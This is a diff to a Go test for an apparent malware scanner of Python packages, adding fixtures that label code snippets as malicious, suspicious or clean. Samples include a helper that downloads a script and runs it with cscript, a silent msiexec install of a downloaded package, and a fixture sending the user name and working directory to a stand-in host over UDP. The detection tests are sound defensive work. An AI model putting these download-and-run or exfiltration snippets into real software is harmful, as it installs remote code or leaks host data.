@@ -37,6 +37,10 @@ func TestStagesAndProbes(t *testing.T) {
 			"import os, socket, getpass\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto((getpass.getuser() + '|' + os.getcwd()).encode(), ('collect.example.invalid', 53))\n"}, "exfiltrates-host-info", Malicious},
 		{"a script's top level looking up its own address and a status page", map[string]string{"tools/status.py": "" +
 			"import socket, requests\nip = socket.gethostbyname(socket.gethostname())\nprint(ip, requests.get('https://status.example.invalid/api').json())\n"}, "", Clean},
+		{"a downloaded script run by a Windows script host in a helper", map[string]string{"p/info.py": "" +
+			"import subprocess, urllib.request\ndef fetch_and_run(url, filename='update.vbs'):\n    urllib.request.urlretrieve(url, filename)\n    subprocess.run(['cscript', '//nologo', filename], check=True)\n"}, "download-execute", Malicious},
+		{"a downloaded installer package run by msiexec in a helper", map[string]string{"p/setup_tool.py": "" +
+			"import subprocess, urllib.request\ndef install(url, filename='tool.msi'):\n    urllib.request.urlretrieve(url, filename)\n    subprocess.run(['msiexec', '/i', filename, '/qn'], check=True)\n"}, "", Suspicious},
 		{"notepad opened on import", map[string]string{"p/__init__.py": "import subprocess\nsubprocess.Popen(['notepad'])\n"}, "suspicious-command", Malicious},
 		{"an editor opened by a command of the tool", map[string]string{"p/cli.py": "" +
 			"import subprocess\ndef edit_config(path):\n    subprocess.call(['notepad', path])\n"}, "", Clean},
